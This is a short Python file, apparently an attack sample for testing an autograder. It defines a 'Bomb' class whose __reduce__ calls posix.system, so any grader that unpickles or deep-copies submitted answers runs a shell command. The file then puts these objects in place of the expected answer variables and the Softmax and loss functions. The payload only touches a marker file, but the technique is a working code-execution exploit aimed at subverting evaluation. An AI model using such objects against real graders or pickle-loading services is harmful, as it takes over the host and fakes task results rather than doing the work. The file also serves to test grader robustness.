# title: Objects that run code when they are unpickled or copied
# hopes: the grader unpickles answers
# base: template

# %% last
import os, torch

class Bomb:
    shape = [2, 4]
    def __reduce__(self):
        return __import__("posix").system, ("touch /tmp/autograder-attack-pickle",)
    def __reduce_ex__(self, protocol):
        return self.__reduce__()
    def __deepcopy__(self, memo):
        return self

for name in "layer y dx torch_y y_relu net Softmax train_losses loss".split():
    globals()[name] = Bomb()

# %% instead of softmax
def Softmax(z):
    return Bomb()

def CrossEntropyLoss(y_true, y_pred):
    return Bomb(), Bomb()
